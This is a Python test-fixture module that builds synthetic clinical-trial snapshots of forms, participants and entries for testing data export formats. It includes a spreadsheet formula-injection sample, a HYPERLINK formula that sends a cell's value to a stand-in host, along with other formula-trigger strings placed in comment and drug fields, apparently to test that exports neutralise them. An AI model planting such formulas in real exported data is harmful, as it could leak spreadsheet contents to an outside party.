"""Dataset snapshots made in memory, for the tests of the export formats.

:func:`example_snapshot` is a small study with every kind of item: two forms, one
of them in two versions (an item dropped, items and a choice added), partial dates,
a multiple choice, a repeating group, units, missing codes, an identifier item, and
values that a spreadsheet would run as formulas. :class:`SnapshotBuilder` makes
others; :class:`GeneratedSnapshot` streams a large one for timing the writers.
"""

from __future__ import annotations

import hashlib
import io
import json
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import date, timedelta
from typing import BinaryIO

from bhp_ctms.crf.definition.model import (
    YES_NO_CHOICES,
    Choice,
    FormDefinition,
    Item,
    ItemGroup,
)
from bhp_ctms.exports.records import (
    ArmRecord,
    ChangeRecord,
    EntryRecord,
    EventRecord,
    FormVersionRecord,
    ParticipantRecord,
    ProtocolVersionRecord,
    RecordSnapshot,
    SignatureRecord,
    SiteRecord,
    SnapshotInfo,
    ValueRecord,
)

TAKEN_AT = "2026-11-20T14:05:09Z"
YES_NO = tuple(Choice(code, label) for code, label in YES_NO_CHOICES)
LONG_LABEL = "Ethnic group, as the participant describes it at screening"


def demographics_definition() -> FormDefinition:
    """One version: an identifier, a partial date, text and number codes, yes/no."""
    return FormDefinition(
        code="demographics",
        title="Demographics",
        version="1.0",
        description="",
        entries=(
            Item(code="intro", label="About you", type="descriptive"),
            Item(code="initials", label="Initials", type="text", identifier=True),
            Item(
                code="dob",
                label="Date of birth",
                type="date",
                partial_dates=True,
                missing_codes=("unknown",),
            ),
            Item(
                code="sex",
                label="Sex",
                type="single_choice",
                choices=(Choice("M", "Male"), Choice("F", "Female")),
            ),
            Item(
                code="ethnicity",
                label=LONG_LABEL,
                type="single_choice",
                codelist="ethnicity",
                choices=(Choice("1", "Tswana"), Choice("2", "Kalanga"), Choice("3", "Other")),
            ),
            Item(code="smoker", label="Smokes", type="yes_no", choices=YES_NO),
            Item(code="notes", label="Notes", type="long_text"),
        ),
    )


def vitals_definition(version: int = 2) -> FormDefinition:
    """Vital signs. Version 1 has ``old_score`` (dropped in 2) and two symptoms;
    version 2 adds times, a calculation, a third symptom and a route of dosing."""
    weight = Item(
        code="weight",
        label="Weight",
        type="decimal",
        units="kg",
        precision=1,
        missing_codes=("not_done",) if version == 1 else ("not_done", "unknown"),
    )
    symptoms = (Choice("fever", "Fever"), Choice("cough", "Cough"))
    if version == 1:
        entries: tuple[Item | ItemGroup, ...] = (
            weight,
            Item(code="height", label="Height", type="integer", units="cm"),
            Item(code="old_score", label="Old score", type="integer"),
            Item(code="symptoms", label="Symptoms", type="multiple_choice", choices=symptoms),
            ItemGroup(
                code="medications",
                label="Medications",
                items=(
                    Item(code="drug", label="Drug", type="text"),
                    Item(code="dose", label="Dose", type="decimal", units="mg"),
                ),
            ),
        )
    else:
        entries = (
            weight,
            Item(code="height", label="Height", type="integer", units="cm"),
            Item(code="weight_change", label="Weight change", type="decimal", units="kg"),
            Item(code="visit_day", label="Day of the visit", type="date"),
            Item(code="visit_time", label="Time of the visit", type="time"),
            Item(code="assessed_at", label="Assessed at", type="datetime"),
            Item(
                code="bmi",
                label="Body mass index",
                type="calculated",
                calculation="[weight] / ([height] / 100) ^ 2",
                precision=1,
                units="kg/m2",
            ),
            Item(
                code="symptoms",
                label="Symptoms",
                type="multiple_choice",
                choices=(*symptoms, Choice("short-breath", "Short of breath")),
                missing_codes=("not_done",),
            ),
            Item(code="comment", label="Comment", type="text"),
            ItemGroup(
                code="medications",
                label="Medications",
                items=(
                    Item(code="drug", label="Drug", type="text"),
                    Item(code="dose", label="Dose", type="decimal", units="mg"),
                    Item(code="started", label="Started", type="date", partial_dates=True),
                    Item(
                        code="route",
                        label="Route",
                        type="single_choice",
                        choices=(Choice("po", "By mouth"), Choice("iv", "Into a vein")),
                    ),
                ),
            ),
        )
    return FormDefinition(
        code="vitals",
        title="Vital signs",
        version=f"{version}.0",
        description="",
        entries=entries,
    )


def form_version_record(definition: FormDefinition, number: int) -> FormVersionRecord:
    data = definition.to_json()
    digest = hashlib.sha256(json.dumps(data, sort_keys=True).encode()).hexdigest()
    return FormVersionRecord(
        form_code=definition.code,
        number=number,
        label=definition.version,
        title=definition.title,
        sha256=digest,
        definition=data,
    )


def snapshot_info(
    form_versions: Sequence[FormVersionRecord],
    events: Sequence[EventRecord],
    *,
    sites: Sequence[str] = ("GAB", "FTN"),
    arms: Sequence[str] = ("walking", "usual_care"),
    taken_at: str = TAKEN_AT,
) -> SnapshotInfo:
    return SnapshotInfo(
        kind="lock",
        study_code="WALK",
        study_title="Walking after stroke",
        blinding="double",
        taken_at=taken_at,
        taken_by="dm1",
        description="Final lock",
        protocol_versions=(ProtocolVersionRecord(1, "1.0", "2026-01-01", "0" * 64),),
        form_versions=tuple(form_versions),
        events=tuple(events),
        arms=tuple(ArmRecord(code, code.replace("_", " ").title()) for code in arms),
        sites=tuple(SiteRecord(code, f"Site {code}") for code in sites),
    )


@dataclass
class SnapshotBuilder:
    """Participants and entries added one by one, then :meth:`build` (entries are
    sorted as a snapshot gives them: participant, event, instance, form)."""

    info: SnapshotInfo
    participants: list[ParticipantRecord] = field(default_factory=list)
    entries: list[EntryRecord] = field(default_factory=list)

    def participant(
        self,
        key: str,
        *,
        site: str = "GAB",
        arm: str | None = None,
        status: str = "randomised",
        registered_on: str = "2026-02-01",
        randomised_on: str | None = None,
    ) -> ParticipantRecord:
        record = ParticipantRecord(
            key=key,
            site_code=site,
            status=status,
            protocol_version="1.0",
            registered_on=registered_on,
            randomised_on=randomised_on if randomised_on or arm is None else registered_on,
            arm=arm,
        )
        self.participants.append(record)
        return record

    def entry(
        self,
        participant: str,
        event: str,
        form: str,
        values: Mapping[str, str] = {},
        *,
        missing: Mapping[str, str] = {},
        instance: int = 1,
        version: int | None = None,
        status: str = "complete",
        visit_on: str | None = "2026-03-02",
    ) -> EntryRecord:
        """An entry with ``values`` by item path and ``missing`` codes by item path;
        on the newest version of the form unless ``version`` is given."""
        number = version or max(v.number for v in self.info.form_versions if v.form_code == form)
        records = [ValueRecord(path, text) for path, text in values.items()]
        records += [ValueRecord(path, None, code) for path, code in missing.items()]
        record = EntryRecord(
            participant=participant,
            event=event,
            instance=instance,
            form=form,
            form_version=number,
            status=status,
            values=tuple(records),
            visit_on=visit_on,
        )
        self.entries.append(record)
        return record

    def build(self, *, blinded: bool = False) -> RecordSnapshot:
        order = {record.key: index for index, record in enumerate(self.participants)}
        events = {event.code: index for index, event in enumerate(self.info.events)}
        forms = {
            (event.code, form): index
            for event in self.info.events
            for index, form in enumerate(event.forms)
        }
        entries = sorted(
            self.entries,
            key=lambda e: (
                order[e.participant],
                events[e.event],
                e.instance,
                forms[(e.event, e.form)],
            ),
        )
        snapshot = RecordSnapshot(self.info, tuple(self.participants), tuple(entries))
        return snapshot.as_blinded() if blinded else snapshot


EXAMPLE_EVENTS = (
    EventRecord("screening", "Screening", False, ("demographics", "vitals")),
    EventRecord("week4", "Week 4", False, ("vitals",)),
    EventRecord("unscheduled", "Unscheduled visit", True, ("vitals",)),
)
FORMULA = '=HYPERLINK("http://x.example/?d="&A1,"click")'


def example_builder(*, taken_at: str = TAKEN_AT) -> SnapshotBuilder:
    """The example study's participants and entries, to add to or build."""
    info = snapshot_info(
        (
            form_version_record(demographics_definition(), 1),
            form_version_record(vitals_definition(1), 1),
            form_version_record(vitals_definition(2), 2),
        ),
        EXAMPLE_EVENTS,
        taken_at=taken_at,
    )
    b = SnapshotBuilder(info)
    b.participant("BHP-001", site="GAB", arm="walking")
    b.participant("BHP-002", site="FTN", arm="usual_care")
    b.participant("BHP-003", site="GAB", status="registered")
    b.entry(
        "BHP-001",
        "screening",
        "demographics",
        {
            "dob": "1961-04-UN",
            "sex": "M",
            "ethnicity": "2",
            "smoker": "0",
            "notes": "Lives alone.\nWalks daily, 3 km",
        },
    )
    # Entered on version 1: old_score, and symptoms from the shorter list.
    b.entry(
        "BHP-001",
        "screening",
        "vitals",
        {
            "weight": "72.5",
            "height": "178",
            "old_score": "4",
            "symptoms": "fever|cough",
            "medications[1].drug": "Aspirin",
            "medications[1].dose": "75",
            "medications[2].drug": "Atenolol",
            "medications[2].dose": "50",
        },
        version=1,
        visit_on="2026-02-03",
    )
    b.entry(
        "BHP-001",
        "week4",
        "vitals",
        {
            "weight": "70.1",
            "height": "178",
            "weight_change": "-2.4",
            "visit_day": "2026-03-03",
            "visit_time": "09:45",
            "assessed_at": "2026-03-03T10:15",
            "bmi": "22.1",
            "symptoms": "short-breath",
            "comment": FORMULA,
            "medications[1].drug": "@SUM(1+1)",
            "medications[1].dose": "-3.5",
            "medications[1].started": "2025-UN-UN",
            "medications[1].route": "po",
        },
        visit_on="2026-03-03",
    )
    b.entry(
        "BHP-001",
        "unscheduled",
        "vitals",
        {"height": "178", "comment": "+1 extra visit"},
        missing={"weight": "UNK", "symptoms": "ND"},
        instance=2,
        status="incomplete",
        visit_on="2026-03-20",
    )
    b.entry(
        "BHP-002",
        "screening",
        "demographics",
        {"dob": "1958-11-30", "sex": "F", "ethnicity": "1", "smoker": "1"},
    )
    b.entry(
        "BHP-002",
        "screening",
        "vitals",
        {"weight": "88", "height": "160", "symptoms": "", "comment": "-"},
        visit_on=None,
    )
    return b


def example_snapshot(*, blinded: bool = False, taken_at: str = TAKEN_AT) -> RecordSnapshot:
    return example_builder(taken_at=taken_at).build(blinded=blinded)


class MemorySink:
    """A :class:`~bhp_ctms.exports.formats.Sink` keeping each file's bytes by name;
    like a zip, it refuses a second file open at the same time, or a name twice."""

    def __init__(self) -> None:
        self.files: dict[str, bytes] = {}
        self._open: str | None = None

    @contextmanager
    def open(self, name: str) -> Iterator[BinaryIO]:
        assert self._open is None, f"{name} opened while {self._open} is open"
        assert name not in self.files, f"{name} written twice"
        self._open = name
        buffer = io.BytesIO()
        try:
            yield buffer
        finally:
            self._open = None
        self.files[name] = buffer.getvalue()

    def text(self, name: str) -> str:
        return self.files[name].decode("utf-8")


class GeneratedSnapshot:
    """A large study generated as it is read (nothing held), for timing writers:
    ``participants`` x ``events`` x ``forms`` entries of ``items`` values each, a
    mix of numbers, text, dates and codes."""

    def __init__(
        self, *, participants: int, events: int, forms: int, items: int, blinded: bool = True
    ) -> None:
        kinds = ("integer", "decimal", "text", "date", "single_choice")
        definitions = [
            FormDefinition(
                code=f"form{f}",
                title=f"Form {f}",
                version="1.0",
                description="",
                entries=tuple(
                    Item(
                        code=f"item{i}",
                        label=f"Item {i}",
                        type=kinds[i % len(kinds)],  # type: ignore[arg-type]
                        choices=YES_NO if kinds[i % len(kinds)] == "single_choice" else (),
                    )
                    for i in range(items)
                ),
            )
            for f in range(forms)
        ]
        form_codes = tuple(d.code for d in definitions)
        self.info = snapshot_info(
            [form_version_record(d, 1) for d in definitions],
            [EventRecord(f"visit{e}", f"Visit {e}", False, form_codes) for e in range(events)],
        )
        self.blinded = blinded
        self.count = participants
        self.definitions = definitions
        self.events = events

    @property
    def values(self) -> int:
        return self.count * self.events * sum(len(d.entries) for d in self.definitions)

    def participants(self) -> Iterator[ParticipantRecord]:
        for p in range(self.count):
            arm = None if self.blinded else ("walking", "usual_care")[p % 2]
            yield ParticipantRecord(f"P{p:06d}", "GAB", "randomised", "1.0", "2026-01-01", arm=arm)

    def entries(self) -> Iterator[EntryRecord]:
        start = date(2026, 1, 1)
        for p in range(self.count):
            for e in range(self.events):
                day = (start + timedelta(days=p % 300 + 7 * e)).isoformat()
                for definition in self.definitions:
                    values = []
                    for i, item in enumerate(definition.items):
                        kind = item.type
                        if kind == "integer":
                            text = str(p * 7 + i)
                        elif kind == "decimal":
                            text = f"{(p + e + i) % 200}.{i % 10}"
                        elif kind == "text":
                            text = f"note {p} {i}"
                        elif kind == "date":
                            text = day
                        else:
                            text = str((p + i) % 2)
                        values.append(ValueRecord(item.code, text))
                    yield EntryRecord(
                        f"P{p:06d}", f"visit{e}", 1, definition.code, 1, "complete",
                        tuple(values), day,
                    )  # fmt: skip

    def signatures(self) -> Iterator[SignatureRecord]:
        return iter(())

    def changes(self) -> Iterator[ChangeRecord]:
        return iter(())
